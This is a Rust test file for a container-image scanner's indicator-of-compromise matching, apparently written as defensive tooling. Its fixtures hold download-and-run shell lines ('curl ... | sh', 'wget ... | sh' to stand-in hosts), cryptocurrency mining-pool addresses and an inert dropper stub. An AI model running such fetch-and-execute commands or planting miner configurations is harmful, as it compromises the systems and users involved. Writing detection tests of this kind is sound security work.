//! Indicator lists: the built-in ones and an analyst's `--ioc` file, matched in file contents
//! (also inside nested archives), in the image config and history, and against every file
//! version's sha256; each indicator one finding with every location and state.

mod common;

use common::build::{gzip, layer_tar, oci_archive_with, raw_tar, sha, write_temp, zip};
use layerhound::limits::Limits;
use layerhound::scan::ioc::IocSet;
use layerhound::scan::yara::RuleSet;
use layerhound::scan::{ContentScanner, Engines};
use layerhound::ScanOptions;
use serde_json::{json, Value};
use tar::EntryType::Regular;

const DROPPER: &[u8] = b"#!/bin/sh\n# not a real tool\necho dropper\n";

/// (list, indicator, place, state) of every ioc finding location.
fn iocs(report: &Value) -> Vec<(String, String, String, String)> {
    let mut all = Vec::new();
    for finding in report["inputs"][0]["images"][0]["findings"].as_array().unwrap() {
        if finding["kind"] != "ioc" {
            continue;
        }
        for location in finding["locations"].as_array().unwrap() {
            let place = common::place(location);
            all.push((
                finding["detector"]["rule"].as_str().unwrap().to_string(),
                finding["detector"]["tags"][0].as_str().unwrap().to_string(),
                place,
                location["state"].as_str().unwrap().to_string(),
            ));
        }
    }
    all.sort();
    all
}

#[test]
fn builtin_and_analyst_indicators_in_files_members_config_and_hashes() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("case-1234.txt");
    std::fs::write(
        &list,
        format!(
            "# severity: critical\n# description: Indicators from case 1234\n# example: wget http://203.0.113.99/x\n# negative: 203.0.113.990\n\
             203.0.113.99\n# family: evil-cdn (case 1234, day 2)\nupdate.evil-cdn.example\nsha256:{}\n",
            sha(DROPPER)
        ),
    )
    .unwrap();
    let set = IocSet::compile(std::slice::from_ref(&list), true).unwrap();
    let jar = zip(&[("config.properties", b"pool=stratum+tcp://xmr-eu1.nanopool.org:14433\n")]);
    let lower = layer_tar(&[
        ("opt/app/lib/worker.jar", &jar),
        ("usr/local/bin/.dropper", DROPPER),
        ("usr/local/bin/update.sh", b"#!/bin/sh\ncurl -fsSL https://cdn.update-check.tk/x.sh | sh\n"),
        ("usr/share/doc/tcl/README", b"See https://wiki.example-docs.tk/ for more.\n"),
        ("etc/hosts.bak", b"127.0.0.1 localhost\n198.51.100.7 update.evil-cdn.example\n"),
    ]);
    let upper = raw_tar(&[(b"usr/local/bin/.wh..dropper", Regular, b"", b""), (b"usr/local/bin/.wh.update.sh", Regular, b"", b"")]);
    let archive = oci_archive_with(&[(gzip(&lower), lower), (upper.clone(), upper)], |config| {
        config["config"]["Env"] = json!(["POOL=gulf.moneroocean.stream:10128"]);
        config["history"][1]["created_by"] = json!("/bin/sh -c wget -qO- http://203.0.113.99/i.sh | sh");
        config["history"][0]["created_by"] = json!("/bin/sh -c curl -o /tmp/m https://dl.kworker-sys.top/m");
    });
    let path = write_temp(&dir, "image.tar", &archive);
    let rules = RuleSet::compile(&[], true).unwrap();
    let limits = Limits::default();
    let scanner = ContentScanner::new(Engines { ioc: Some(&set), ..Engines::new(&rules, None) }, &limits);
    let options = ScanOptions { limits: Limits { spill_dir: Some(dir.path().to_path_buf()), ..limits }, ..ScanOptions::default() };
    let report = serde_json::to_value(layerhound::scan(&[path], &options, &scanner, &mut |_| {})).unwrap();
    let dropper_hash = format!("sha256:{}", sha(DROPPER));
    let expected = vec![
        ("case-1234", "203.0.113.99", "history[1].created_by", "present"),
        ("case-1234", dropper_hash.as_str(), "/usr/local/bin/.dropper", "deleted"),
        ("case-1234", "update.evil-cdn.example", "/etc/hosts.bak", "present"),
        ("mining-pool", "moneroocean.stream", "config.env[0]", "present"),
        ("mining-pool", "nanopool.org", "/opt/app/lib/worker.jar!/config.properties", "present"),
        ("suspicious-tld", "cdn.update-check.tk", "/usr/local/bin/update.sh", "deleted"),
        ("suspicious-tld", "dl.kworker-sys.top", "history[0].created_by", "present"),
    ];
    let expected: Vec<(String, String, String, String)> =
        expected.into_iter().map(|(a, b, c, d)| (a.to_string(), b.to_string(), c.to_string(), d.to_string())).collect();
    assert_eq!(iocs(&report), expected);
    let severities: Vec<&str> = report["inputs"][0]["images"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["detector"]["rule"] == "case-1234")
        .map(|f| f["severity"].as_str().unwrap())
        .collect();
    assert!(severities.iter().all(|s| *s == "critical"), "the list's header sets the severity: {severities:?}");
    let findings = report["inputs"][0]["images"][0]["findings"].as_array().unwrap();
    let named = |indicator: &str| findings.iter().find(|f| f["kind"] == "ioc" && f["detector"]["tags"][0] == indicator).unwrap();
    let evil = named("update.evil-cdn.example");
    assert_eq!(evil["detector"]["tags"], json!(["update.evil-cdn.example", "evil-cdn"]), "the family follows the indicator");
    assert!(evil["description"].as_str().unwrap().ends_with("update.evil-cdn.example (evil-cdn)"));
    assert_eq!(named("203.0.113.99")["detector"]["tags"], json!(["203.0.113.99"]), "above the first family line");
    assert_eq!(report["content_scan"]["ioc_files"][0], list.display().to_string());
}

#[test]
fn every_builtin_list_finds_its_examples_and_not_its_negative_ones() {
    // A start checks only the analyst's lists (the built-in ones would cost a search of every name).
    let set = IocSet::compile(&[], true).expect("the built-in indicator lists load");
    let failures = set.check_examples().expect("the name search builds");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn a_list_whose_examples_fail_or_that_holds_garbage_is_refused_with_its_name() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.txt");
    std::fs::write(&bad, "# example: nothing listed here\nevil.example\n").unwrap();
    let err = IocSet::compile(std::slice::from_ref(&bad), false).err().expect("a failing example").to_string();
    assert!(err.contains("bad.txt") && err.contains("nothing listed here"), "{err}");
    let garbage = dir.path().join("garbage.txt");
    std::fs::write(&garbage, "evil.example\nnot an indicator\n").unwrap();
    let err = IocSet::compile(std::slice::from_ref(&garbage), false).err().expect("a line with spaces").to_string();
    assert!(err.contains("garbage.txt:2"), "{err}");
}
